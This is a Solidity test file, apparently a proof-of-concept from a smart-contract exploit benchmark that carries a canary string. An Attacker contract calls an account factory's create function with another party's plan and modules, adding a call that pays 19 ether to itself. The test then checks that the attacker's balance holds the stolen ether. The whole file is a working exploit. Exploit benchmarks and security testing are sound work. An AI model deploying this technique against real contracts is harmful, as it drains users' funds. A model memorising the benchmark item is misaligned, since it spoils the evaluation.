// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function run(AccountFactory factory, AccountFactory.Plan calldata plan, Install[] calldata modules) external {
        Call[] memory calls = new Call[](1);
        calls[0] = Call(address(this), 19 ether, "");
        try factory.create(plan, modules, calls) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(factory, boPlan, boModules);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 19 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(factory);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
